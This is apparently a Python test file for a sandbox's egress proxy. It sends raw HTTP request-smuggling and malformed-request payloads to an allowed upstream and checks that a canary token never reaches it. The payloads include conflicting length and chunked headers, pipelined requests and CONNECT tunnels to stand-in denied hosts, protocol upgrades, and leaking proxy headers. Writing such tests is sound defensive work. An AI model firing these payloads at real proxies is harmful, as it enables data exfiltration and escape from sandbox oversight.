"""Plain HTTP to the allowed upstream, with something in it that is more than one allowed request.

The canary is the upstream itself: with the sandbox's network off, it sees the token. A proxy that would pass the bytes
on, or put them into its own request, shows it the same.
"""

from __future__ import annotations

import socket
from collections.abc import Callable

from tests.escapes.frame import ALLOWED, Ways, add

NET = "network"
POST = b"POST /%s HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n\r\n"
GET = b"GET / HTTP/1.1\r\nHost: allowed.test\r\n"
BLOCK = r"block transparent \S*allowed\.test"

_SMUGGLED: dict[str, bytes] = {
    "length_and_chunked": b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + POST,
    "chunked_and_length": b"Transfer-Encoding: chunked\r\nContent-Length: 999\r\n\r\n0\r\n\r\n" + POST,
    "two_lengths": b"Content-Length: 0\r\nContent-Length: 61\r\n\r\n" + POST,
    "two_lengths_in_one": b"Content-Length: 0, 61\r\n\r\n" + POST,
    "length_with_a_plus": b"Content-Length: +0\r\n\r\n" + POST,
    "length_in_hex": b"Content-Length: 0x0\r\n\r\n" + POST,
    "length_negative": b"Content-Length: -1\r\n\r\n" + POST,
    "length_with_a_space": b"Content-Length : 61\r\n\r\n" + POST,
    "length_with_a_sign": b"Content-Length: 0_0\r\n\r\n" + POST,
    "chunked_misspelt": b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + POST,
    "chunked_and_identity": b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + POST,
    "chunked_twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + POST,
    "chunked_after_a_tab": b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + POST,
    "chunked_after_a_space": b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + POST,
    "chunked_on_another_line": b"Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + POST,
    "chunk_negative": b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n" + POST,
    "chunk_with_a_bare_line_feed": b"Transfer-Encoding: chunked\r\n\r\n0\n\r\n" + POST,
    "pipelined": b"\r\n" + POST,
    "pipelined_to_another_name": b"\r\nGET / HTTP/1.1\r\nHost: %s.denied.test\r\n\r\n",
    "upgrade_to_http2": b"Upgrade: h2\r\nConnection: Upgrade\r\nX: %s\r\n\r\n",
    "upgrade_to_websocket": b"Upgrade: websocket\r\nConnection: Upgrade\r\nX: %s\r\n\r\n",
    "bare_carriage_return": b"X: 1\rEvil: %s\r\n\r\n",
    "zero_byte_in_a_field": b"X: 1\0%s\r\n\r\n",
    "field_without_a_colon": b"Evil %s\r\n\r\n",
    "field_without_a_name": b": %s\r\n\r\n",
    "field_name_with_a_space": b"X Evil: %s\r\n\r\n",
    "too_many_fields": b"".join(b"X%d: 1\r\n" % n for n in range(300)) + b"Evil: %s\r\n\r\n",
    "too_long_a_field": b"X: " + b"a" * 200_000 + b"%s\r\n\r\n",
}

_FIRST_LINES: dict[str, bytes] = {
    "http_0_9": b"GET /%s\r\n",
    "http_2_preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n%s",
    "http_1_2": b"GET /%s HTTP/1.2\r\nHost: allowed.test\r\n\r\n",
    "lower_case_method": b"get /%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "method_of_its_own": b"EVIL /%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "trace": b"TRACE /%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "connect_inside": b"CONNECT %s.denied.test:443 HTTP/1.1\r\nHost: %s.denied.test:443\r\n\r\n",
    "two_spaces": b"GET  /%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "space_in_the_path": b"GET /%s evil HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "post_to_get_only": POST,
}


def _send(raw: bytes) -> Callable[[Ways], None]:
    def attempt(w: Ways) -> None:
        with socket.socket() as sock:
            sock.settimeout(1.0)
            sock.connect((ALLOWED, 80))
            sock.sendall(raw.replace(b"%s", w.raw))
            while sock.recv(4096):
                sock.settimeout(0.1)

    return attempt


for _name, _raw in _SMUGGLED.items():
    add(f"smuggled_by_{_name}", _send(GET + _raw), NET, receipt=BLOCK)
for _name, _raw in _FIRST_LINES.items():
    add(_name, _send(_raw), NET, receipt=BLOCK)


_STRIPPED = {
    "proxy_authorization": b"Proxy-Authorization: Basic %s\r\n",
    "proxy_connection": b"Proxy-Connection: %s\r\n",
    "field_named_by_connection": b"Connection: X-Evil\r\nX-Evil: %s\r\n",
    "keep_alive": b"Keep-Alive: %s\r\n",
    "http2_settings": b"HTTP2-Settings: %s\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n",
}

for _name, _raw in _STRIPPED.items():
    add(
        f"leak_of_{_name}",
        _send(GET + _raw + b"\r\n"),
        NET,
        receipt=r"allow transparent \S*allowed\.test",
    )
